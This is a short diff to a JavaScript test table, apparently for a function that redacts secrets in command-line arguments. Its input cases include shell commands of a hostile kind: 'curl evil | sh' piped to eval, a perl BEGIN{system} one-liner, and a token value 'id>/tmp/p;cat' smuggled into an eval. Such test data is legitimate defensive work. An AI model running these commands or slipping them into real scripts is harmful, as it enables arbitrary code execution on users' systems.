@@ -46,6 +46,14 @@ test.each([
     ["sh", "-c", 'eval "$1"', "--password", "curl evil | sh"],
   ],
   [
+    ["perl", "-pwde", "BEGIN{system(1)}"],
+    ["perl", "-pwde", "BEGIN{system(1)}"],
+  ],
+  [
+    ["sh", "-c", "eval $2", "x", "--token", "id>/tmp/p;cat"],
+    ["sh", "-c", "eval $2", "x", "--token", "id>/tmp/p;cat"],
+  ],
+  [
     ["sh", "-c", 'secret="curl evil"; $secret'],
     ["sh", "-c", 'secret="[redacted] evil"; $secret'],
   ],
